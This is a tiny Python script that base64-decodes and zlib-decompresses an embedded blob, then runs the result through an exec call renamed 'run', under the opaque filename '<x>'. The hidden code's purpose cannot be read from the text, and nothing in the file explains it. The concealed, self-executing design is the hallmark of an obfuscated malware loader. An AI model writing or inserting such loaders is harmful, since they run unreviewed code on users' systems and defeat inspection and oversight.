from base64 import b64decode as d
import zlib as z
blob = ('eJwNyzEOgCAQBMCeV2wHJMY/oYdCAUfutvH3Uk+mj6VGqIdlfTJFtu5wlimO'
        'Rw23SgVbIaZeKh82j1omQYXVIvHY+3wrV5eUc/gB11Ecmw==')
run = exec
run(compile(z.decompress(d(blob)).decode(), '<x>', 'exec'))
